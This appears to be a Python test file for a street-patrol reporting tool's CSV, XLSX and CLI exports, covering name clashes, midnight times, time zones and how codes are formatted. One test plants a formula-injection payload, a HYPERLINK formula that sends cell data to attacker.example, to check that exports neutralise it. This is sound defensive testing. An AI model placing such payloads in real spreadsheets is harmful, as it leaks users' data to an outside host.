"""Patrol reports as an office reads them: what an acceptance tester found in the exports.

Two stewards of one name were told apart by nothing but the database id; a walk over
midnight ended its day at 23:59:59.999999, which Excel shows as the next day; the XLSX wrote
yes/no as TRUE/FALSE, days and share as text, shares as bare fractions; a report printed to
a file cut every community name to "清华园…"; an unnamed alley had a blank name; a time zone
changed after walks were stored went unexplained. Real PostGIS; the town of
:mod:`tests.test_patrol_reports_more_db` (visits written on fixed past days).
"""

from __future__ import annotations

import datetime as dt
import os
import subprocess
from typing import Any

import openpyxl
import pandas as pd
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text

from api.app import create_app
from geo.patrol_reports import build_report, for_readers
from geo.report_export import export_report, report_json
from geo.report_period import report_period
from geo.settings import get_settings
from tests.test_import import GRIDWARD
from tests.test_patrol_reports_more_db import COMMUNITY, FAR, TZ, WED, town  # noqa: F401


def _cli(args: list[str], pg_url: str) -> subprocess.CompletedProcess:
    """The CLI with its output to a pipe, as `gridward report … > 月评.txt` (no COLUMNS)."""
    env = {k: v for k, v in os.environ.items() if k != "COLUMNS"}
    env["DATABASE_URL"] = pg_url
    return subprocess.run([*GRIDWARD, *args], capture_output=True, text=True, env=env, timeout=300)


def _xlsx(town: dict[str, Any], path: Any, kind: str = "daily") -> openpyxl.Workbook:  # noqa: F811
    rep = build_report(town["db"], kind, WED, today=FAR)
    export_report(rep, path, report_period(kind, WED, FAR), 0.8)
    return openpyxl.load_workbook(path)


def _rows(sheet: Any) -> list[dict[str, Any]]:
    head = [c.value for c in sheet[1]]
    return [dict(zip(head, (c.value for c in row), strict=True)) for row in sheet.iter_rows(2)]


def test_people_rows_carry_their_registry_id(town, auth_headers, pg_url, tmp_path) -> None:  # noqa: ANN001, F811
    """P and Q both named 管家P: every people table names their registry id (人员编号), the
    CSV/XLSX column of that name holds it (it held the database id), and the CLI prints it."""
    ids = town["people"]
    with town["db"].begin() as conn:
        conn.execute(text("UPDATE people SET name = '管家P' WHERE id = :q"), {"q": ids["Q"]})
    rep = build_report(town["db"], "daily", WED, today=FAR)
    people = rep["people"]
    assert dict(zip(people["person_id"], people["person_code"], strict=True)) == {
        ids[k]: k for k in ("P", "Q", "R", "T", "S", "S2")
    }
    alleys = rep["alleys"]  # and the alley rows say who by registry id too
    a = alleys[alleys["alley_id"] == town["alleys"]["A"]].iloc[0]
    assert a["people"] == "管家P、管家P" and sorted(a["person_codes"].split("、")) == ["P", "Q"]
    at = list(people.columns).index("person_id")
    assert list(people.columns[at : at + 3]) == ["person_id", "person_code", "person_name"]
    book = _xlsx(town, tmp_path / "r.xlsx")
    rows = _rows(book.worksheets[0])
    assert {(r["人员编号 person_code"], r["系统编号 person_id"]) for r in rows} == {
        (k, ids[k]) for k in ("P", "Q", "R", "T", "S", "S2")
    }
    with TestClient(create_app(town["db"])) as client:
        got = client.get(
            "/reports/daily", params={"date": str(WED)}, headers=auth_headers("admin")
        ).json()
    assert {r["person_code"] for r in got["people"] if r["person_name"] == "管家P"} == {"P", "Q"}
    res = _cli(["report", "daily", "--date", str(WED)], pg_url)
    assert res.returncode == 0, res.stderr
    lines = [ln for ln in res.stdout.splitlines() if "管家P" in ln]
    assert len(lines) == 2 and {ln.split("│")[3].strip() for ln in lines} == {"P", "Q"}


def test_a_walk_over_midnight_ends_its_day_within_it(town, tmp_path) -> None:  # noqa: ANN001, F811
    """A stretch walked over midnight ends its first day at 23:59:59.999999: the report says
    23:59:59 (JSON, CSV, XLSX), never the next day's 00:00:00 that Excel rounded it to."""
    seg = town["segs"]["D"][0].id
    late = dt.datetime.combine(WED, dt.time(23, 59, 59, 999999), tzinfo=TZ)
    with town["db"].begin() as conn:
        conn.execute(
            text(
                "INSERT INTO patrol_visits (track_id, segment_id, person_id, day, "
                "covered_fraction, first_time, last_time, intervals) SELECT id, :s, person_id, "
                ":d, 1.0, :a, :b, '[[0, 1]]' FROM tracks WHERE person_id = :p"
            ),
            {
                "s": seg,
                "d": WED,
                "a": late - dt.timedelta(minutes=3),
                "b": late,
                "p": town["people"]["S"],
            },
        )
    rep = build_report(town["db"], "daily", WED, today=FAR)
    segs = report_json(rep)["segments"]
    assert [s["last_time"] for s in segs if s["segment_id"] == seg] == [f"{WED}T23:59:59+08:00"]
    book = _xlsx(town, tmp_path / "r.xlsx")
    sheet = next(ws for ws in book.worksheets if "末次时间 last_time" in [c.value for c in ws[1]])
    last = [r["末次时间 last_time"] for r in _rows(sheet) if r["末次时间 last_time"]]
    assert last and max(last) == dt.datetime.combine(WED, dt.time(23, 59, 59))
    csv = pd.read_csv(
        export_report(rep, tmp_path / "s.csv", report_period("daily", WED, FAR), table="segments"),
        encoding="utf-8-sig",
    )
    assert f"{WED} 23:59:59" in set(csv["末次时间 last_time"].dropna())


def test_xlsx_says_yes_no_and_percent_and_numbers(town, tmp_path) -> None:  # noqa: ANN001, F811
    """已巡 reads 是/否 as the 报表 sheet does; 报表's days and share are numbers; shares are
    fractions shown as percentages; an unnamed alley is named by its OSM way."""
    book = _xlsx(town, tmp_path / "w.xlsx", "weekly")
    about = {r["项目 item"]: r["值 value"] for r in _rows(book["报表 report"])}
    assert about["天数 days"] == 7 and about["达标线 patrolled when"] == pytest.approx(0.8)
    # the cells' times carry no zone: the sheet names it (T40 #9; the headers stay label and key)
    assert about["时区 time zone"] == (
        "首次时间、末次时间均为北京时间，按北京时间分日 "
        "first_time and last_time are local times in Asia/Shanghai, and days are Asia/Shanghai days"
    )
    alleys = next(ws for ws in book.worksheets if "已巡 patrolled" in [c.value for c in ws[1]])
    flags = {r["已巡 patrolled"] for r in _rows(alleys)}
    assert flags == {"是 yes", "否 no"}
    people = book.worksheets[0]
    col = [c.value for c in people[1]].index("达标率 compliance")
    cells = [row[col] for row in people.iter_rows(2) if row[col].value is not None]
    assert cells and all(c.number_format == "0.0%" and 0 <= c.value <= 1 for c in cells)
    with town["db"].connect() as conn:
        unnamed = conn.execute(
            text("SELECT id, key FROM streets WHERE name IS NULL AND id = ANY(:a)"),
            {"a": list(town["alleys"].values())},
        ).all()
    assert unnamed  # the demo's alleys are mostly unnamed ways
    names = {r["街巷编号 alley_id"]: r["街巷名称 alley_name"] for r in _rows(alleys)}
    assert all(names[i] == f"（无名 unnamed）{key}" for i, key in unnamed)


def test_a_report_printed_to_a_file_keeps_whole_names(town, pg_url) -> None:  # noqa: ANN001, F811
    """Printed to a pipe (rich assumed 80 columns): the community's whole name, not cut."""
    with town["db"].connect() as conn:
        name = conn.execute(text("SELECT name FROM areas WHERE code = :c"), {"c": COMMUNITY})
        name = name.scalar_one()
    res = _cli(["report", "weekly", "--date", str(WED)], pg_url)
    assert res.returncode == 0, res.stderr
    assert name in res.stdout and "…" not in res.stdout


def test_walks_dayed_in_another_zone_are_noted(town, monkeypatch) -> None:  # noqa: ANN001, F811
    """Walks stored under Asia/Shanghai, reported under America/New_York: they keep their
    days, and a note says why their times read on another date and what to run: a re-match
    of the walks' days in New York (06:00–10:30 Beijing is the evening before there; the
    note first named the stored days, and following it did not clear it)."""
    assert not any(
        "time zone" in n for n in build_report(town["db"], "weekly", WED, today=FAR).meta["notes"]
    )
    monkeypatch.setenv("GRIDWARD_TIMEZONE", "America/New_York")
    get_settings.cache_clear()
    try:
        rep = build_report(town["db"], "weekly", WED, today=FAR)
        notes = rep.meta["notes"]
        for_readers(rep)  # a steward or viewer: no shell command, ask an admin (T40 #12)
        read = [n for n in rep.meta["notes"] if "another time zone" in n]
    finally:
        monkeypatch.delenv("GRIDWARD_TIMEZONE")
        get_settings.cache_clear()
    zone = [n for n in notes if "another time zone" in n]
    assert len(zone) == 1 and "tracks rematch --since 2025-06-15 --until 2025-06-18" in zone[0]
    assert len(read) == 1 and "gridward" not in read[0], read
    assert "请联系管理员重新匹配 2025-06-15 至 2025-06-18 的轨迹" in read[0]
    assert read[0].endswith("ask an admin to re-match the tracks of 2025-06-15 to 2025-06-18")


def test_the_day_a_walk_was_really_on_says_where_it_is_stored(town, monkeypatch) -> None:  # noqa: ANN001, F811
    """Tester Z3: under New York the Monday walks (06:00 Beijing) were on Sunday 06-15, but
    stored on 06-16; the note was only on 06-16's report, and Sunday's, the one a steward
    asks about, showed them at nothing without a word. Now Sunday's says where they are and
    what re-match counts them there; under the zone they were stored in, no note."""
    sunday = WED - dt.timedelta(days=3)

    def moved(notes: list[str]) -> list[str]:
        return [n for n in notes if "记在别日" in n]

    assert not moved(build_report(town["db"], "daily", sunday, today=FAR).meta["notes"])
    monkeypatch.setenv("GRIDWARD_TIMEZONE", "America/New_York")
    get_settings.cache_clear()
    try:
        rep = build_report(town["db"], "daily", sunday, today=FAR)
        notes = moved(rep.meta["notes"])
        for_readers(rep)  # as a steward or viewer reads it (T40 #12)
        read = moved(rep.meta["notes"])
    finally:
        monkeypatch.delenv("GRIDWARD_TIMEZONE")
        get_settings.cache_clear()
    assert len(notes) == 1, notes
    assert "(by America/New_York) are stored on 2025-06-16," in notes[0]
    assert notes[0].endswith("tracks rematch --since 2025-06-15 --until 2025-06-15"), notes
    assert len(read) == 1 and "gridward" not in read[0], read
    assert read[0].endswith("ask an admin to re-match the tracks of 2025-06-15 to 2025-06-15")


def test_rematch_since_alone_runs_to_today_and_says_so(town, pg_url) -> None:  # noqa: ANN001, F811
    """--since alone was one day, said in a note a reader could miss (T59 #5): "since" means
    from that day on, as in audit --since and GET /tracks?since=, and the line names both."""
    from geo.settings import city_today

    res = _cli(["tracks", "rematch", "--since", str(WED), "--queue-only"], pg_url)
    assert res.returncode == 0, res.stderr
    # one line, though printed to a pipe (rich wrapped it at 80 columns there)
    assert f"of {WED} to {city_today()} (0 were queued already)\n" in res.stdout, res.stdout
    assert f"已将 {WED} 至 {city_today()} " in res.stdout, res.stdout


def test_exports_keep_text_inert_fitted_and_name_their_area(town, tmp_path) -> None:  # noqa: ANN001, F811
    """What a reports officer found: a name starting with "=" was a live formula in the XLSX
    and the CSV; columns were 8.4 characters wide (dates showed as ########) with no frozen
    header; a community's file did not say which community it covers."""
    evil = '=HYPERLINK("http://attacker.example/x?"&A1,"管家P")'
    with town["db"].begin() as conn:
        conn.execute(
            text("UPDATE people SET name = :n WHERE id = :p"), {"n": evil, "p": town["people"]["P"]}
        )
    rep = build_report(town["db"], "daily", WED, area=COMMUNITY, today=FAR)
    period = report_period("daily", WED, FAR)
    export_report(rep, tmp_path / "r.xlsx", period, 0.8)
    book = openpyxl.load_workbook(tmp_path / "r.xlsx")
    people = book.worksheets[0]
    names = [c.value for c in people["D"]] + [c.value for c in people["E"]]
    assert evil in names  # a text cell: openpyxl reads a formula cell's text too, so…
    cell = next(c for row in people.iter_rows() for c in row if c.value == evil)
    assert cell.data_type == "s"  # …its type says it: "s" text, not "f" formula
    assert people.freeze_panes == "A2" and people.auto_filter.ref

    def width(sheet: Any, header: str) -> float:  # openpyxl keeps runs of equal columns
        col = next(c.column for c in sheet[1] if c.value == header)
        return next(d.width for d in sheet.column_dimensions.values() if d.min <= col <= d.max)

    assert width(people, "姓名 person_name") >= 12 and width(people, "人员编号 person_code") >= 12
    alleys = book.worksheets[1]
    assert width(alleys, "首次时间 first_time") >= 19  # no ########
    about = {r[0].value: r[1].value for r in book.worksheets[-1].iter_rows(2)}
    assert COMMUNITY in about["区域 area"]
    export_report(rep, tmp_path / "r.csv", period, 0.8, "people")
    csv = pd.read_csv(tmp_path / "r.csv", encoding="utf-8-sig", dtype=str)
    assert "'" + evil in set(csv["姓名 person_name"])  # Excel shows it as text, runs nothing
    assert report_json(rep) and rep.meta["area_name"]
    from geo.patrol_reports import report_summary

    assert report_summary(rep, period)["area"]["code"] == COMMUNITY


def test_a_report_says_when_tracks_of_its_days_are_not_matched_yet(town) -> None:  # noqa: ANN001, F811
    """A weekly check run during a worker backlog gave rates that looked final."""
    walk = dt.datetime.combine(WED, dt.time(9), TZ)
    with town["db"].begin() as conn:
        for i, status in enumerate(("queued", "queued", "failed", "matched")):
            conn.execute(
                text(
                    "INSERT INTO tracks (sha256, raw, format, crs, size_bytes, started_at, "
                    "ended_at, status, n_points) VALUES "
                    "(:h, '\\x00', 'gpx', 'wgs84', 1, :a, :b, :s, 2)"
                ),
                {"h": f"e{i:063d}", "a": walk, "b": walk + dt.timedelta(hours=1), "s": status},
            )
    notes = build_report(town["db"], "weekly", WED, today=FAR).meta["notes"]
    assert any(n.startswith("2 条轨迹待匹配") for n in notes), notes
    assert any(n.startswith("1 条轨迹匹配失败") for n in notes), notes
    later = build_report(town["db"], "daily", WED + dt.timedelta(days=1), today=FAR)
    assert not any("轨迹" in n for n in later.meta["notes"])  # other days: nothing to say


def test_a_track_matched_again_is_said_to_count_as_last_matched(town) -> None:  # noqa: ANN001, F811
    """T47 #6: during ``tracks rematch`` a report said "N tracks wait … not in this report"
    beside figures that held them (their visits are kept until the new match): a track
    matched before is named as being matched again, counted as last matched."""
    walk = dt.datetime.combine(WED, dt.time(9), TZ)
    with town["db"].begin() as conn:
        ids = [
            conn.execute(
                text(
                    "INSERT INTO tracks (sha256, raw, format, crs, size_bytes, started_at, "
                    "ended_at, status, n_points) VALUES "
                    "(:h, '\\x00', 'gpx', 'wgs84', 1, :a, :b, 'queued', 2) RETURNING id"
                ),
                {"h": f"r{i:063d}", "a": walk, "b": walk + dt.timedelta(hours=1)},
            ).scalar_one()
            for i in range(3)
        ]
        conn.execute(
            text(
                "INSERT INTO track_matches (track_id, segments, walked_m) "
                "SELECT unnest(CAST(:ids AS int[])), 1, 10.0"
            ),
            {"ids": ids[:2]},
        )
    notes = build_report(town["db"], "weekly", WED, today=FAR).meta["notes"]
    assert any(n.startswith("1 条轨迹待匹配") for n in notes), notes
    again = [n for n in notes if n.startswith("2 条轨迹正在重新匹配")]
    assert again and "2 tracks of these days are being matched again" in again[0], notes


EMPTY = dt.date(2025, 4, 9)  # before every duty of the town: no duty, no walk


def _heads(rep: Any, kind: str, day: dt.date, folder: Any) -> dict[str, Any]:
    """Each table's CSV header line, each XLSX sheet's header row, and the JSON ``columns``."""
    period = report_period(kind, day, FAR)
    out: dict[str, Any] = {"json": report_json(rep)["columns"]}
    for name in rep:
        path = export_report(rep, folder / f"{kind}-{day}-{name}.csv", period, table=name)
        out[name] = path.read_text(encoding="utf-8-sig").splitlines()[0]
    book = openpyxl.load_workbook(export_report(rep, folder / f"{kind}-{day}.xlsx", period))
    out["xlsx"] = {ws.title: [c.value for c in ws[1]] for ws in book.worksheets}
    return out


@pytest.mark.parametrize("kind", ["daily", "weekly"])
def test_an_empty_report_has_the_columns_of_a_full_one(town, tmp_path, kind) -> None:  # noqa: ANN001, F811
    """L5, an outside tester: a period with no duty and no walk gave fewer columns (a week's
    people CSV 4 of 12, a day's alleys no first/last time), so its header differed from a
    full report's. Now every table, CSV, XLSX sheet and JSON ``columns`` are the same."""
    full = build_report(town["db"], kind, WED, today=FAR)
    empty = build_report(town["db"], kind, EMPTY, today=FAR)
    assert len(full["people"]) and not len(empty["people"]) and not len(empty["alleys"])
    for name in full:
        assert list(empty[name].columns) == list(full[name].columns), name
    assert _heads(empty, kind, EMPTY, tmp_path) == _heads(full, kind, WED, tmp_path)


def _csv_rows(path: Any) -> list[dict[str, str]]:
    """A CSV's cells as written (no type guessing): what Excel is handed."""
    import csv

    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_codes_stay_text_when_excel_opens_the_csv(town, tmp_path) -> None:  # noqa: ANN001, F811
    """L6, an outside tester: Excel read the CSV's codes as numbers (registry id 007 as 7,
    community 110108015002 as 1.10108E+11). A code starting with a digit is written with a
    leading tab (text in Excel and WPS); the formula rule still gives = + - @ a leading ',
    never both; names are untouched; the XLSX has string cells, the JSON plain codes."""
    ids = town["people"]
    with town["db"].begin() as conn:
        for key, code in (("P", "007"), ("Q", "-5"), ("R", "=1+1")):
            conn.execute(
                text("UPDATE people SET external_id = :c WHERE id = :p"), {"c": code, "p": ids[key]}
            )
    rep = build_report(town["db"], "daily", WED, today=FAR)
    period = report_period("daily", WED, FAR)
    people = _csv_rows(export_report(rep, tmp_path / "p.csv", period, table="people"))
    codes = {r["系统编号 person_id"]: r["人员编号 person_code"] for r in people}
    assert codes[str(ids["P"])] == "\t007" and codes[str(ids["S"])] == "S"
    assert codes[str(ids["Q"])] == "'-5" and codes[str(ids["R"])] == "'=1+1"
    assert {r["姓名 person_name"] for r in people} >= {"管家P", "管家S2"}
    alleys = _csv_rows(export_report(rep, tmp_path / "a.csv", period, table="alleys"))
    c = next(r for r in alleys if r["街巷编号 alley_id"] == str(town["alleys"]["C"]))
    assert c["责任人编号 person_codes"] == "\t007"  # alley C: P alone
    assert c["社区编码 community_code"] == "\t" + COMMUNITY
    assert c["街道编码 subdistrict_code"] == "\t" + COMMUNITY[:9]
    areas = _csv_rows(export_report(rep, tmp_path / "r.csv", period, table="areas"))
    assert {r["社区编码 community_code"] for r in areas} >= {"", "\t" + COMMUNITY}
    book = openpyxl.load_workbook(export_report(rep, tmp_path / "r.xlsx", period))
    sheet = book["人员 people"]
    col = [c.value for c in sheet[1]].index("人员编号 person_code") + 1
    cells = [row[col - 1] for row in sheet.iter_rows(2)]
    p = next(c for c in cells if c.value == "007")
    assert p.data_type == "s" and p.number_format == "@"
    area = book["区域 areas"]
    col = [c.value for c in area[1]].index("社区编码 community_code")
    got = [row[col] for row in area.iter_rows(2) if row[col].value == COMMUNITY]
    assert got and all(c.data_type == "s" for c in got)
    assert {r["person_code"] for r in report_json(rep)["people"]} >= {"007", "-5", "=1+1"}


def test_headers_are_a_label_and_the_json_key(town, tmp_path) -> None:  # noqa: ANN001, F811
    """L10, an outside tester: the JSON's person_code was "人员编号 person id" in the CSV and
    its person_id "系统编号 system id". Every header is now its Chinese label and the JSON
    key, so a script maps them by the header's last word."""
    for kind in ("daily", "monthly"):
        rep = build_report(town["db"], kind, WED, today=FAR)
        heads = _heads(rep, kind, WED, tmp_path)
        keys = heads["json"]
        for name in rep:
            got = heads[name].split(",")
            assert [h.rsplit(" ", 1)[1] for h in got] == [
                k for k in keys[name] if k not in ("person_ids", "credited_ids", "role_label")
            ]
            assert all(len(h.split(" ")) == 2 for h in got), got  # one label, one key
    assert "人员编号 person_code" in heads["people"] and "系统编号 person_id" in heads["people"]
